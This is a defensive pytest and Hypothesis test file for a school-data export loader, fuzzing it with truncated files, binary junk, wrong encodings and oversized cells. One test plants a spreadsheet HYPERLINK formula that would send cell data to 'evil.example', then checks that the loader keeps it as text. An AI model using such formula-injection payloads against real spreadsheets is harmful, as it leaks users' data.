"""Hostile export files: truncated CSV and Parquet, binary junk, wrong encodings, a
100 MB cell, spreadsheet formulas. Reading an export must end in a clean import or one
`InputTableError` naming the file, never another exception; `baoxue validate` and the
weekly batch print a message (no traceback) and write nothing.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from features.sources import load_export
from features.tables import REQUIRED_TABLES
from features.validation import InputTableError
from serving.cli import app
from serving.settings import get_settings
from tests.features.export_factory import write_valid_export

FILES = sorted(REQUIRED_TABLES)
HYPOTHESIS = settings(
    max_examples=15,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def valid_csv(tmp_path_factory) -> Path:
    return write_valid_export(tmp_path_factory.mktemp("valid") / "csv")


@pytest.fixture(scope="module")
def valid_parquet(tmp_path_factory) -> Path:
    return write_valid_export(tmp_path_factory.mktemp("valid") / "parquet", fmt="parquet")


def _copy(source: Path, target: Path) -> Path:
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(source, target)
    return target


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def assert_clean_import_or_named_error(folder: Path, broken: str) -> None:
    """Either the export loads, or one InputTableError names the broken file; the
    folder is left exactly as it was."""
    before = _snapshot(folder)
    try:
        load_export(folder)
    except InputTableError as error:
        files = {v.file for v in error.violations}
        assert files, "an error names at least one file"
        # the broken file, or another one that no longer agrees with it (a truncated
        # calendar makes attendance rows fall on days that are not school days)
        assert files <= set(before), files
        assert "Traceback" not in error.report()
    assert _snapshot(folder) == before


@HYPOTHESIS
@given(
    name=st.sampled_from(FILES),
    cut=st.floats(min_value=0.0, max_value=0.999),
)
def test_a_truncated_csv_is_named_or_imported(valid_csv, tmp_path, name, cut) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    data = path.read_bytes()
    path.write_bytes(data[: int(len(data) * cut)])
    assert_clean_import_or_named_error(folder, path.name)


@HYPOTHESIS
@given(
    name=st.sampled_from(FILES),
    cut=st.floats(min_value=0.0, max_value=0.999),
    junk=st.binary(max_size=64),
)
def test_a_truncated_or_corrupted_parquet_is_named(valid_parquet, tmp_path, name, cut, junk):
    folder = _copy(valid_parquet, tmp_path / "export")
    path = folder / f"{name}.parquet"
    data = path.read_bytes()
    at = int(len(data) * cut)
    path.write_bytes(data[:at] + junk)
    assert_clean_import_or_named_error(folder, path.name)


@HYPOTHESIS
@given(name=st.sampled_from(FILES), junk=st.binary(min_size=1, max_size=2048))
def test_binary_junk_is_named(valid_csv, tmp_path, name, junk) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    path.write_bytes(junk)
    assert_clean_import_or_named_error(folder, path.name)


@HYPOTHESIS
@given(
    name=st.sampled_from(FILES),
    at=st.floats(min_value=0.0, max_value=1.0),
    text=st.text(max_size=40),
)
def test_random_text_spliced_into_a_csv_is_named_or_imported(valid_csv, tmp_path, name, at, text):
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / f"{name}.csv"
    data = path.read_text(encoding="utf-8")
    i = int(len(data) * at)
    path.write_text(data[:i] + text + data[i:], encoding="utf-8")
    assert_clean_import_or_named_error(folder, path.name)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1", "gb18030", "big5"])
def test_wrong_encodings_are_named_or_read(valid_csv, tmp_path, encoding) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "schools.csv"
    text = path.read_text(encoding="utf-8")
    try:
        path.write_bytes(text.encode(encoding))
    except UnicodeEncodeError:
        path.write_bytes(text.encode(encoding, errors="replace"))
    assert_clean_import_or_named_error(folder, path.name)


def test_a_100_mb_cell_is_read_as_text_or_refused_without_echoing_it(valid_csv, tmp_path):
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "schools.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("name")] = "x" * 100_000_000
    with path.open("w", encoding="utf-8") as f:
        f.write("\n".join([lines[0], ",".join(cells), *lines[2:]]) + "\n")
    try:
        tables = load_export(folder).tables
    except InputTableError as error:
        report = error.report()
        assert "schools.csv" in report
        assert "x" * 1000 not in report  # the cell's value is never echoed
    else:  # a school's name is free text: read whole, as text
        assert tables.schools["name"].str.len().max() == 100_000_000


def test_formulas_in_cells_stay_text_and_never_run(valid_csv, tmp_path) -> None:
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "schools.csv"
    formula = '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("name")] = formula
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    tables = load_export(folder).tables
    names = tables.schools["name"].tolist()
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in names  # kept as plain text


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("BAOXUE_PATHS__HOME", str(tmp_path / "home"))
    get_settings.cache_clear()
    yield tmp_path / "home"
    get_settings.cache_clear()


@pytest.mark.parametrize("damage", ["truncate", "junk", "utf16"])
def test_validate_and_score_print_a_message_and_write_nothing(valid_csv, tmp_path, home, damage):
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "attendance.csv"
    data = path.read_bytes()
    if damage == "truncate":
        path.write_bytes(data[: len(data) // 3] + b'"unclosed')
    elif damage == "junk":
        path.write_bytes(b"\x00\xff\xfe" * 500)
    else:
        path.write_bytes(data.decode("utf-8").encode("utf-16"))
    runner = CliRunner()
    validated = runner.invoke(app, ["validate", str(folder)])
    assert validated.exit_code == 1, validated.output
    assert "attendance.csv" in validated.output and "Traceback" not in validated.output
    scored = runner.invoke(app, ["score", str(folder), "--as-of", "2024-10-14"])
    assert scored.exit_code == 1, scored.output
    assert "attendance.csv" in scored.output and "Traceback" not in scored.output
    assert not (home / "lists").exists()  # nothing written: no lists
    assert not (home / "baoxue.db").exists()  # the export is read before the database


def test_a_truncated_school_year_without_dates_is_named_not_a_crash(valid_csv, tmp_path):
    """Found by the truncation fuzz: `2024` cut to `20` with empty enrolment dates made
    the default start date (20-08-01) overflow pandas' timestamps."""
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "enrolments.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("school_year")] = "20"
    cells[header.index("start_date")] = cells[header.index("end_date")] = ""
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(InputTableError) as info:
        load_export(folder)
    [violation] = info.value.violations
    assert (violation.file, violation.rule, violation.column) == (
        "enrolments.csv",
        "out_of_range",
        "school_year",
    )


@pytest.mark.parametrize("day", ["2300-01-01", "2262-04-12", "1600-01-01"])
def test_a_date_pandas_cannot_hold_is_not_a_date_not_a_crash(valid_csv, tmp_path, day):
    """Found by a longer fuzz run: a mistyped year past 2262 overflowed the nanosecond
    timestamps (OutOfBoundsDatetime) instead of being named."""
    folder = _copy(valid_csv, tmp_path / "export")
    path = folder / "attendance.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("date")] = day
    lines[1] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(InputTableError) as info:
        load_export(folder)
    [violation] = info.value.violations
    found = (violation.file, violation.rule, violation.column)
    assert found == ("attendance.csv", "bad_date", "date")
